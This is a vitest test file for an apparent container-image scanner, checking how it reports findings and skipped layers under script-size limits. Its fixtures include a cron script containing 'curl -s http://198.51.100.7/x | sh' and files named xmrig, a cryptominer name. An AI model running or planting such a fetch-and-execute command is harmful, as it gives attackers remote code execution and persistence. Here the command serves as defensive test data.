import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { elf } from '../../testkit/elf.ts';
import { buildImage } from '../../testkit/image.ts';
import { writeOciLayout } from '../../testkit/store.ts';
import type { Assessment } from '../assess/index.ts';
import { DEFAULT_POLICY } from '../assess/index.ts';
import { DEFAULT_LIMITS } from '../base/limits.ts';
import { checkTarget } from './check.ts';

/** Commands in the scripts of each layer, the bottom one first; the highest are the largest, and two are the same. */
const LAYERS = [10, 1500, 2000, 1500, 3000, 4000] as const;
const ATTACK = 'curl -s http://198.51.100.7/x | sh';

let root: string;
beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'clearpull-looks-'));
  const steps = LAYERS.map((count) => ({
    createdBy: `COPY ${count}`,
    items: [
      { path: `etc/cron.daily/${count}-a`, data: `#!/bin/sh\n${'a b\n'.repeat(count)}`, mode: 0o755 },
      { path: `etc/cron.daily/${count}-b`, data: `#!/bin/sh\n${ATTACK}\n`, mode: 0o755 },
      // Seen by its name, not in a text.
      { path: `opt/${count}/xmrig`, data: elf(), mode: 0o755 },
    ],
  }));
  const rounds = `import os\nx = ""\nfor a in range(9000):\n    x = "a" + str(a)\nos.system("ls " + x)\n`;
  const programs = Array.from({ length: 4 }, (_, i) => ({
    path: `etc/cron.daily/${i}.py`,
    data: `#!/usr/bin/python3\n${rounds}`,
    mode: 0o755,
  }));
  await writeOciLayout(join(root, 'layout'), [
    { image: buildImage({ steps }), name: 'many' },
    { image: buildImage({ steps: [{ createdBy: 'COPY', items: programs }] }), name: 'rounds' },
  ]);
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

async function check(
  maxImageScriptParts: number,
  workers: number,
  cache?: string,
  name = 'many',
): Promise<Assessment> {
  const [assessment] = await checkTarget(`oci:${join(root, 'layout')}:${name}`, {
    policy: DEFAULT_POLICY,
    limits: { ...DEFAULT_LIMITS, maxImageScriptParts },
    registry: { insecure: false, timeout: 1000, dockerConfigFolder: join(root, 'none') },
    workers,
    ...(cache === undefined ? {} : { cacheFolder: join(root, cache) }),
  });
  if (assessment === undefined) throw new Error('nothing was checked');
  return assessment;
}

const leftOut = ({ coverage }: Assessment): ReadonlySet<number | undefined> =>
  new Set(
    coverage.unread
      .filter(({ limit, detail }) => limit === 'maxImageScriptParts' && detail.includes('layers below'))
      .map(({ layer }) => layer),
  );

describe('an image of many layers with many scripts', () => {
  it('is looked at whole within the bound', async () => {
    const whole = await check(DEFAULT_LIMITS.maxImageScriptParts, 2);
    expect(whole.coverage.unread).toEqual([]);
    expect(whole.findings.some(({ evidence }) => evidence.some(({ path }) => path.endsWith('4000-b')))).toBe(
      true,
    );
  });

  it('leaves out the texts of all layers above those that are too much, and says so of each', async () => {
    const cut = await check(3000, 2);
    expect(leftOut(cut)).toEqual(new Set([3, 4, 5]));
    const told = cut.findings.flatMap(({ evidence }) => evidence.map(({ path }) => path));
    expect(told).toContain('/etc/cron.daily/10-b');
    expect(told.some((path) => path.endsWith('4000-b'))).toBe(false);
    // All else of them is judged.
    expect(told).toContain('/opt/4000/xmrig');
  });

  it('leaves out the rest of one layer that is too much by itself', async () => {
    const cut = await check(1000, 1);
    const [{ detail } = { detail: '' }] = cut.coverage.unread.filter(({ layer }) => layer === 1);
    expect(detail).toContain('/etc/cron.daily/1500-b and what follows was not looked at');
  });

  it('counts what programs are worked out for, however short they are', async () => {
    const cut = await check(30_000, 1, undefined, 'rounds');
    const details = cut.coverage.unread.map(({ detail }) => detail);
    expect(details).toContainEqual(
      expect.stringMatching(/cron.daily\/[23].py and what follows was not looked at/),
    );
  });

  it('comes to the same whatever the order in which layers become known, and from the cache', async () => {
    const one = JSON.stringify(await check(3000, 1));
    for (const workers of [2, 6]) expect(JSON.stringify(await check(3000, workers)) === one).toBe(true);
    for (let times = 0; times < 3; times++)
      expect(JSON.stringify(await check(3000, 2, 'cache')) === one).toBe(true);
  });
});
